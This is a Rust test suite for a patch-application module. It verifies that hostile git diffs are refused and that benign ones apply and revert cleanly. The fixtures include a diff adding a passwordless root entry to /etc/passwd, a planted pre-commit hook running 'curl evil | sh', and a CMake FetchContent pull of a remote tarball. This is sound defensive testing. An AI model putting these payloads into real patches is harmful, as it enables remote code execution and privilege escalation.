//! `forge::patch` on real temporary git repositories: hostile diffs are refused with the
//! right `rej-*` code and leave the tree clean, benign ones apply and commit, failed
//! applies and reverts leave no trace.

mod common;

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use common::git::raw as sh_git;
use forge::patch::{self, Limits, Rejected, git};
use tempfile::TempDir;

const MAIN_C: &str = "\
#include <stdio.h>

int main(void) {
    printf(\"hello\\n\");
    return 0;
}
";

/// A repository with `src/main.c`, `CMakeLists.txt` and a `.gitignore` for `build/`.
fn repo() -> TempDir {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    sh_git(root, &["init", "--quiet", "-b", "main"]);
    fs::create_dir(root.join("src")).unwrap();
    fs::write(root.join("src/main.c"), MAIN_C).unwrap();
    fs::write(
        root.join("CMakeLists.txt"),
        "cmake_minimum_required(VERSION 3.14)\nproject(demo C)\nadd_executable(demo src/main.c)\n",
    )
    .unwrap();
    fs::write(root.join(".gitignore"), "build/\n").unwrap();
    commit_all(root, "init");
    dir
}

fn commit_all(root: &Path, message: &str) {
    sh_git(root, &["add", "-A"]);
    sh_git(root, &["commit", "--quiet", "-m", message]);
}

fn porcelain(root: &Path) -> String {
    sh_git(root, &["status", "--porcelain", "--untracked-files=all"])
}

/// `try_apply` with the default limits; the rejection (the test expects one).
fn rejected(root: &Path, diff: &str) -> Rejected {
    let head = git::head(root).unwrap();
    let r = patch::try_apply(root, diff, &Limits::default()).unwrap_err();
    assert_eq!(porcelain(root), "", "tree not clean after {r}");
    assert_eq!(git::head(root).unwrap(), head);
    r
}

fn new_file(path: &str, lines: &[&str]) -> String {
    let mut text = format!(
        "diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{} @@\n",
        lines.len()
    );
    for line in lines {
        text.push_str(&format!("+{line}\n"));
    }
    text
}

const BENIGN: &str = "\
diff --git a/src/main.c b/src/main.c
--- a/src/main.c
+++ b/src/main.c
@@ -3,4 +3,5 @@
 int main(void) {
     printf(\"hello\\n\");
+    fflush(stdout);
     return 0;
 }
";

#[test]
fn traversal_is_refused() {
    let r = repo();
    let text = "\
diff --git a/../../etc/passwd b/../../etc/passwd
--- a/../../etc/passwd
+++ b/../../etc/passwd
@@ -1 +1 @@
-root:x:0:0:root:/root:/bin/bash
+evil::0:0:root:/root:/bin/bash
";
    let e = rejected(r.path(), text);
    assert_eq!(e.code(), "rej-path", "{e}");
    assert!(e.to_string().contains("../../etc/passwd"), "{e}");
    // Git's C-style quoting spells `..` as `\056\056`.
    let quoted = "--- \"a/\\056\\056/x\"\n+++ \"b/\\056\\056/x\"\n@@ -1 +1 @@\n-a\n+b\n";
    assert_eq!(rejected(r.path(), quoted).code(), "rej-path");
    // Reading outside is refused too: a copy from outside would leak it into the tree.
    let copy = "diff --git a/../../etc/hostname b/leak.txt\nsimilarity index 100%\ncopy from ../../etc/hostname\ncopy to leak.txt\n";
    assert_eq!(rejected(r.path(), copy).code(), "rej-path");
    assert!(!r.path().join("leak.txt").exists());
    let escape = rejected(r.path(), &new_file("../escaped.txt", &["x"]));
    assert_eq!(escape.code(), "rej-path");
    assert!(!r.path().parent().unwrap().join("escaped.txt").exists());
}

#[test]
fn absolute_paths_are_refused() {
    let r = repo();
    let git_style = new_file("/etc/x", &["x"]);
    assert_eq!(rejected(r.path(), &git_style).code(), "rej-path");
    let plain = "--- /etc/x.orig\n+++ /etc/x\n@@ -1 +1 @@\n-a\n+b\n";
    let e = rejected(r.path(), plain);
    assert_eq!(e.code(), "rej-path");
    assert!(e.to_string().contains("absolute"), "{e}");
}

#[test]
fn dot_git_is_refused() {
    let r = repo();
    let hook = new_file(".git/hooks/pre-commit", &["#!/bin/sh", "curl evil | sh"]);
    let e = rejected(r.path(), &hook);
    assert_eq!(e.code(), "rej-path");
    assert!(e.to_string().contains(".git"), "{e}");
    assert!(!r.path().join(".git/hooks/pre-commit").exists());
}

#[test]
fn writing_through_an_in_tree_symlink_to_outside_is_refused() {
    let r = repo();
    let outside = tempfile::tempdir().unwrap();
    symlink(outside.path(), r.path().join("evil")).unwrap();
    commit_all(r.path(), "a symlink out");
    let e = rejected(r.path(), &new_file("evil/x", &["pwned"]));
    assert_eq!(e.code(), "rej-path");
    assert!(e.to_string().contains("outside the checkout"), "{e}");
    assert!(!outside.path().join("x").exists());
    // Changing the symlink itself is a symlink change.
    let retarget = "\
diff --git a/evil b/evil
--- a/evil
+++ b/evil
@@ -1 +1 @@
-x
+y
";
    assert_eq!(rejected(r.path(), retarget).code(), "rej-symlink");
}

#[test]
fn creating_a_symlink_is_refused() {
    let r = repo();
    let text = "\
diff --git a/link b/link
new file mode 120000
index 0000000..c4c9f3e
--- /dev/null
+++ b/link
@@ -0,0 +1 @@
+/etc
\\ No newline at end of file
";
    let e = rejected(r.path(), text);
    assert_eq!(e.code(), "rej-symlink");
    assert!(e.to_string().contains("link"), "{e}");
    assert!(fs::symlink_metadata(r.path().join("link")).is_err());
}

#[test]
fn binary_patches_are_refused() {
    let r = repo();
    // A real binary patch, made by git itself in a scratch repository.
    let scratch = repo();
    fs::write(scratch.path().join("blob.bin"), [0u8, 1, 2, 255, 0, 7]).unwrap();
    sh_git(scratch.path(), &["add", "-A"]);
    let text = sh_git(scratch.path(), &["diff", "--cached", "--binary"]);
    assert!(text.contains("GIT binary patch"), "{text}");
    let e = rejected(r.path(), &text);
    assert_eq!(e.code(), "rej-binary");
    assert!(e.to_string().contains("blob.bin"), "{e}");
}

#[test]
fn huge_diffs_are_refused() {
    let r = repo();
    let many: String = (0..60)
        .map(|k| new_file(&format!("src/f{k}.c"), &["int x;"]))
        .collect();
    let e = rejected(r.path(), &many);
    assert_eq!(e.code(), "rej-size");
    assert!(e.to_string().contains("60 files"), "{e}");
    let lines: Vec<String> = (0..6_000).map(|k| format!("int v{k};")).collect();
    let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
    let long = rejected(r.path(), &new_file("src/big.c", &refs));
    assert_eq!(long.code(), "rej-size");
    let wide = "x".repeat(2_000_000);
    let bytes = rejected(r.path(), &new_file("src/wide.c", &[&wide]));
    assert_eq!(bytes.code(), "rej-size");
    assert!(bytes.to_string().contains("bytes"), "{bytes}");
}

#[test]
fn secrets_are_refused_without_echo() {
    let r = repo();
    let secret = "hf_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789";
    let text = new_file(
        "src/token.h",
        &["#pragma once", &format!("#define TOKEN \"{secret}\"")],
    );
    let e = rejected(r.path(), &text);
    assert_eq!(e.code(), "rej-secret");
    let msg = e.to_string();
    assert!(msg.contains("src/token.h:2"), "{msg}");
    assert!(!msg.contains(secret), "{msg}");
    assert!(!msg.contains("AbCdEf"), "{msg}");
}

#[test]
fn cmake_fetch_content_is_refused() {
    let r = repo();
    let text = "\
diff --git a/CMakeLists.txt b/CMakeLists.txt
--- a/CMakeLists.txt
+++ b/CMakeLists.txt
@@ -1,3 +1,7 @@
 cmake_minimum_required(VERSION 3.14)
 project(demo C)
+include(FetchContent)
+FetchContent_Declare(evil
+  URL https://example.com/evil.tar.gz)
+FetchContent_MakeAvailable(evil)
 add_executable(demo src/main.c)
";
    let e = rejected(r.path(), text);
    assert_eq!(e.code(), "rej-download");
    assert!(e.to_string().contains("CMakeLists.txt:4"), "{e}");
}

#[test]
fn benign_diff_applies_and_commits() {
    let r = repo();
    let root = r.path();
    git::start_branch(root, "forge/campaign-1").unwrap();
    let base = git::head(root).unwrap();
    let applied = patch::try_apply(root, BENIGN, &Limits::default()).unwrap();
    assert_eq!(applied.base, base);
    assert_eq!(applied.files, vec!["src/main.c"]);
    assert_eq!(applied.diff.files[0].added[0].new_line, 5);
    assert!(
        fs::read_to_string(root.join("src/main.c"))
            .unwrap()
            .contains("fflush")
    );
    let sha = git::commit(root, "forge: keep fflush\n\ntokens/s +3.1% (p=0.01)").unwrap();
    assert_ne!(sha, base);
    assert_eq!(git::head(root).unwrap(), sha);
    assert_eq!(
        git::changed_files(root, &base, &sha).unwrap(),
        vec!["src/main.c"]
    );
    assert!(git::status_clean(root).unwrap());
    let branch = sh_git(root, &["branch", "--show-current"]);
    assert_eq!(branch.trim(), "forge/campaign-1");
}

#[test]
fn a_diff_that_does_not_apply_is_apply_failed_and_leaves_no_trace() {
    let r = repo();
    let text = "\
diff --git a/src/new.c b/src/new.c
new file mode 100644
--- /dev/null
+++ b/src/new.c
@@ -0,0 +1 @@
+int fine;
diff --git a/src/main.c b/src/main.c
--- a/src/main.c
+++ b/src/main.c
@@ -3,3 +3,3 @@
 int main(void) {
-    puts(\"not what the file says\");
+    puts(\"x\");
     return 0;
";
    let e = rejected(r.path(), text);
    assert_eq!(e.code(), "apply_failed");
    let Rejected::ApplyFailed(reason) = &e else {
        panic!("{e:?}");
    };
    assert!(reason.reason.contains("patch failed"), "{}", reason.reason);
    assert!(reason.reason.contains("src/main.c"), "{}", reason.reason);
    assert!(!r.path().join("src/new.c").exists());
    let malformed = rejected(
        r.path(),
        "--- a/src/main.c\n+++ b/src/main.c\n@@ -1,3 +1,3 @@\n-x\n",
    );
    assert_eq!(malformed.code(), "apply_failed");
    assert!(malformed.to_string().contains("line 3"), "{malformed}");
}

#[test]
fn revert_to_restores_the_tree_exactly() {
    let r = repo();
    let root = r.path();
    let base = git::head(root).unwrap();
    let before = sh_git(root, &["ls-files", "-s"]);
    let applied = patch::try_apply(
        root,
        &format!("{BENIGN}{}", new_file("src/extra.c", &["int e;"])),
        &Limits::default(),
    )
    .unwrap();
    git::commit(root, "forge: try").unwrap();
    // What a build leaves: an untracked file in a tracked directory, an ignored build dir.
    fs::write(root.join("src/generated.o"), "obj").unwrap();
    fs::create_dir(root.join("build")).unwrap();
    fs::write(root.join("build/cache"), "keep me").unwrap();
    git::revert_to(root, &applied.base).unwrap();
    assert_eq!(git::head(root).unwrap(), base);
    assert_eq!(sh_git(root, &["ls-files", "-s"]), before);
    assert_eq!(fs::read_to_string(root.join("src/main.c")).unwrap(), MAIN_C);
    assert!(!root.join("src/extra.c").exists());
    assert!(!root.join("src/generated.o").exists());
    assert_eq!(
        fs::read_to_string(root.join("build/cache")).unwrap(),
        "keep me"
    );
    assert_eq!(porcelain(root), "");
    // An applied, uncommitted patch is dropped the same way.
    let applied = patch::try_apply(root, BENIGN, &Limits::default()).unwrap();
    applied.revert(root).unwrap();
    assert_eq!(porcelain(root), "");
}

#[test]
fn start_branch_is_idempotent() {
    let r = repo();
    let root = r.path();
    let head = git::head(root).unwrap();
    git::start_branch(root, "forge/c").unwrap();
    git::start_branch(root, "forge/c").unwrap();
    assert_eq!(
        sh_git(root, &["branch", "--show-current"]).trim(),
        "forge/c"
    );
    assert_eq!(git::head(root).unwrap(), head);
    // Resume after a kept commit and a detour: back on the branch, at its commit.
    patch::try_apply(root, BENIGN, &Limits::default()).unwrap();
    let kept = git::commit(root, "keep").unwrap();
    sh_git(root, &["switch", "--quiet", "main"]);
    git::start_branch(root, "forge/c").unwrap();
    assert_eq!(git::head(root).unwrap(), kept);
    let branches = sh_git(root, &["branch", "--list", "forge/c"]);
    assert_eq!(branches.lines().count(), 1);
}

#[test]
fn a_dirty_or_missing_checkout_is_not_touched() {
    let r = repo();
    let root = r.path();
    fs::write(root.join("src/main.c"), "my work in progress\n").unwrap();
    let e = patch::try_apply(root, BENIGN, &Limits::default()).unwrap_err();
    assert_eq!(e.code(), "checkout_error");
    assert!(e.to_string().contains("src/main.c"), "{e}");
    assert_eq!(
        fs::read_to_string(root.join("src/main.c")).unwrap(),
        "my work in progress\n"
    );
    let plain = tempfile::tempdir().unwrap();
    let e = patch::try_apply(plain.path(), BENIGN, &Limits::default()).unwrap_err();
    assert!(e.to_string().contains("not a git repository"), "{e}");
}
